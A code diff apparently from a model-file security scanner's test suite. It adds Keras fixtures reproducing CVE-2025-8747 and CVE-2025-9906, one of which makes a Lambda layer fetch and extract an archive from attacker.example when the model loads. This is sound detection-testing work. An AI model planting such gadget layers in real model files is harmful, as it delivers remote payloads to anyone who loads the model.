@@ -502,6 +502,31 @@ put("malicious/cve-2025-9906.keras",
     keras_zip(seq([{"module": "keras.config", "class_name": "function",
                     "config": "enable_unsafe_deserialization", "registered_name": "function"}, lam])),
     "CVE-2025-9906: enable_unsafe_deserialization inside the config", "critical", rules=["MLS-SCAN-010"])
+
+
+def gadget_lambda(module, name, arguments):
+    """A Lambda whose function is a Keras function, not bytecode: safe_mode lets it through."""
+    return {"module": "keras.layers", "class_name": "Lambda",
+            "config": {"name": "gadget", "arguments": arguments,
+                       "function": {"module": module, "class_name": "function", "config": name,
+                                    "registered_name": "function"}}}
+
+
+put("malicious/cve-2025-8747-get-file.keras",
+    keras_zip(seq([dense, gadget_lambda("keras.utils", "get_file",
+                                        {"origin": "https://attacker.example/m.tar.gz", "extract": True})])),
+    "CVE-2025-8747: keras.utils.get_file as a Lambda's function (downloads and extracts on load)", "critical",
+    rules=["MLS-SCAN-010"])
+put("malicious/cve-2025-9906-load-model.keras",
+    keras_zip(seq([dense, gadget_lambda("keras.models", "load_model", {"safe_mode": False})])),
+    "CVE-2025-9906: keras.models.load_model with safe_mode=False as a Lambda's function", "critical",
+    rules=["MLS-SCAN-010"])
+act = {"module": "keras.layers", "class_name": "Dense",
+       "config": {"units": 4, "activation": {"module": "keras.activations", "class_name": "function",
+                                             "config": "relu", "registered_name": "function"}},
+       "registered_name": None}
+put("benign/function-activation.keras", keras_zip(seq([act])),
+    "Keras model whose activation is a serialized keras.activations function", max_severity="info")
 h5 = b"\x89HDF\r\n\x1a\n" + bytes(200) + json.dumps({"class_name": "Functional", "config": {"layers": [lam]}}).encode() + bytes(100)
 put("malicious/lambda.h5", h5, "Lambda layer in an HDF5 model_config", "critical", rules=["MLS-SCAN-010"])
 put("benign/dense.h5", b"\x89HDF\r\n\x1a\n" + bytes(200) + json.dumps(seq([dense])).encode() + bytes(100),
